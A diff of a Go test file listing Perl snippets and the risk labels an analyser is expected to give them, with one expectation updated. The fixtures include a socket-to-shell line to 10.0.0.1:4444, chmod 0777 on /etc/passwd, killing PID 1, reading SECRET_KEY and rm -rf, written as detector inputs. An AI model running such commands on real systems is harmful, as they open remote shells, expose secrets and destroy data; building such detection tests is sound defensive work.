@@ -22,7 +22,7 @@ var perlCases = []testCase{
 	{`use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => "10.0.0.1", PeerPort => 4444); exec "/bin/sh"`, is("net-in 10.0.0.1:4444", "shell /bin/sh", "exec /bin/sh from network")},
 	{"s/(.*)/system($1)/e", is("shell …")},
 	{"s{x}{`id`}ge; tr/a-z/A-Z/; y/a/b/", is("shell id")},
-	{`chmod 0777, "/etc/passwd"; kill 9, 1; rename "a", "b"`, is("permission /etc/passwd", "kill 1", "write b", "write a")},
+	{`chmod 0777, "/etc/passwd"; kill 9, 1; rename "a", "b"`, is("permission /etc/passwd", "kill 1", "read a", "write b", "write a")},
 	{"system $ARGV[0]; print $ENV{SECRET_KEY}", is("shell …", "read environment from secret")},
 	{`system join(" ", "rm", "-rf", "/x")`, is("shell rm -rf /x")},
 	{`my $x = sprintf("%s -rf %s", "rm", "/x"); system($x)`, is("shell rm -rf /x")},
